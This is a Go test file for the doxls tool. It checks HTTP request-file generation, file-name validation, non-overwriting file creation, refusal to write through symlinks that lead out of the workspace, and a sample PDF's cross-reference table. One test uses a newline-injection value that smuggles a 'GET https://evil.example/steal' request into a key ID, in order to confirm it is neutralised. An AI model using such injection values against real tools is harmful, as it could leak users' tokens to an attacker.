package commands

import (
	"bytes"
	"fmt"
	"os"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"testing"

	"github.com/doxls/doxls/auth"
	"github.com/doxls/doxls/httpfile"
	"github.com/doxls/doxls/internal/testbin"
)

const testToken = "eyJhbGciOiJSUzI1NiJ9.eyJjbGllbnRfaWQiOiJzYi1kb3ghYjEifQ.c2lnbmF0dXJl"

func cockpitKey(t *testing.T) *auth.ServiceKey {
	t.Helper()
	k, err := auth.LoadKey(filepath.Join("..", "auth", "testdata", "keys", "cockpit.json"))
	if err != nil {
		t.Fatal(err)
	}
	return k
}

// The new file is one that httpfile already considers done: planning the
// same token again changes nothing, in either mode, and every request got it.
func TestRequestFileIsDone(t *testing.T) {
	key := cockpitKey(t)
	for _, mode := range []httpfile.Mode{httpfile.ModeHeader, httpfile.ModeVariable} {
		s := DefaultSettings()
		s.InsertMode = mode
		src, err := RequestFile(key, testToken, "", s)
		if err != nil {
			t.Fatal(err)
		}
		opts := httpfile.Options{Token: testToken, APIHost: key.APIHost(), Mode: mode, Line: -1}
		if plan := httpfile.PlanEdits(src, opts); len(plan.Edits) != 0 || len(plan.Skipped) != 0 {
			t.Errorf("%s mode: planning again gives %d edits and skips %v", mode, len(plan.Edits), plan.Skipped)
		}
		doc := httpfile.Parse(src)
		if len(doc.Requests) != 4 {
			t.Fatalf("%s mode: %d requests, want 4", mode, len(doc.Requests))
		}
		for _, r := range doc.Requests {
			if r.Host != key.APIHost() {
				t.Errorf("%s mode: request at line %d goes to %q, want the key's API host", mode, r.Line+1, r.Host)
			}
		}
		if !bytes.Contains(src, []byte("# API reference: "+key.SwaggerURL+"\n")) {
			t.Errorf("%s mode: no API reference line for %s", mode, key.SwaggerURL)
		}
	}
}

// Values from a key file stay on their line: a key id with a line break
// cannot add a request to the file.
func TestRequestFileKeepsKeyValuesOnOneLine(t *testing.T) {
	key := cockpitKey(t)
	key.ID = "keys/dox.json\nGET https://evil.example/steal"
	src, err := RequestFile(key, testToken, "", DefaultSettings())
	if err != nil {
		t.Fatal(err)
	}
	if n := len(httpfile.Parse(src).Requests); n != 4 {
		t.Errorf("%d requests, want 4", n)
	}
}

func TestCheckFileName(t *testing.T) {
	for name, ok := range map[string]bool{
		"dox.http": true, "Invoices.REST": true, "dox": false, "dox.json": false,
		"sub/dox.http": false, `sub\dox.http`: false, "../dox.http": false, "": false,
	} {
		if err := CheckFileName(name); (err == nil) != ok {
			t.Errorf("CheckFileName(%q) = %v, want ok=%v", name, err, ok)
		}
	}
}

func TestCreateFileNeverReplaces(t *testing.T) {
	dir := t.TempDir()
	var paths []string
	for i := range 3 {
		p, err := CreateFile(dir, nil, "dox.http", []byte(fmt.Sprint("file ", i)))
		if err != nil {
			t.Fatal(err)
		}
		paths = append(paths, filepath.Base(p))
	}
	if got := strings.Join(paths, " "); got != "dox.http dox-2.http dox-3.http" {
		t.Errorf("created %s", got)
	}
	if b, _ := os.ReadFile(filepath.Join(dir, "dox.http")); string(b) != "file 0" {
		t.Errorf("dox.http holds %q after two more files", b)
	}
	if p, err := FreeName(dir, nil, "dox.http"); err != nil || filepath.Base(p) != "dox-4.http" {
		t.Errorf("FreeName = %q, %v; want dox-4.http", p, err)
	}
	if _, err := CreateFile(filepath.Join(dir, "missing"), nil, "dox.http", nil); err == nil || !strings.Contains(err.Error(), "does not exist") {
		t.Errorf("CreateFile in a missing folder: %v", err)
	}
}

// A folder inside the workspace that is a link to somewhere else: no new
// request file (holding a token) is created there.
func TestCreateFileRefusesAFolderLinkOut(t *testing.T) {
	ws, elsewhere := t.TempDir(), t.TempDir()
	link := filepath.Join(ws, "requests")
	testbin.SkipUnderWine(t, "a symbolic link it makes cannot be opened")
	if err := os.Symlink(elsewhere, link); err != nil {
		t.Skip("no symbolic links here:", err)
	}
	for _, err := range []error{
		func() error { _, err := CreateFile(link, []string{ws}, "dox.http", []byte("x")); return err }(),
		func() error { _, err := FreeName(link, []string{ws}, "dox.http"); return err }(),
	} {
		if err == nil || !strings.Contains(err.Error(), "leads out of the workspace") {
			t.Errorf("a folder linked out of the workspace: %v", err)
		}
	}
	if entries, _ := os.ReadDir(elsewhere); len(entries) != 0 {
		t.Errorf("%d files created outside the workspace", len(entries))
	}
	if _, err := CreateFile(link, []string{elsewhere, ws}, "dox.http", []byte("x")); err != nil {
		t.Errorf("a folder linked into another workspace folder: %v", err)
	}
}

// sample.pdf is a well-formed PDF: every cross-reference entry points at
// its object, as readers (and DOX) check.
func TestSamplePDF(t *testing.T) {
	pdf := samplePDF()
	m := regexp.MustCompile(`startxref\n(\d+)\n`).FindSubmatch(pdf)
	if m == nil {
		t.Fatal("no startxref")
	}
	xref, _ := strconv.Atoi(string(m[1]))
	if !bytes.HasPrefix(pdf[xref:], []byte("xref\n0 6\n")) {
		t.Fatalf("startxref %d does not point at the xref table", xref)
	}
	entries := regexp.MustCompile(`(\d{10}) 00000 n `).FindAllSubmatch(pdf[xref:], -1)
	if len(entries) != 5 {
		t.Fatalf("%d xref entries, want 5", len(entries))
	}
	for i, e := range entries {
		off, _ := strconv.Atoi(string(e[1]))
		if want := fmt.Sprintf("%d 0 obj\n", i+1); !bytes.HasPrefix(pdf[off:], []byte(want)) {
			t.Errorf("xref entry %d points at %.10q, want %q", i+1, pdf[off:], want)
		}
	}

	dir := t.TempDir()
	if err := WriteSample(dir); err != nil {
		t.Fatal(err)
	}
	own := filepath.Join(dir, SampleName)
	if err := os.WriteFile(own, []byte("mine"), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := WriteSample(dir); err != nil {
		t.Fatal(err)
	}
	if b, _ := os.ReadFile(own); string(b) != "mine" {
		t.Errorf("WriteSample replaced an existing sample.pdf")
	}
}
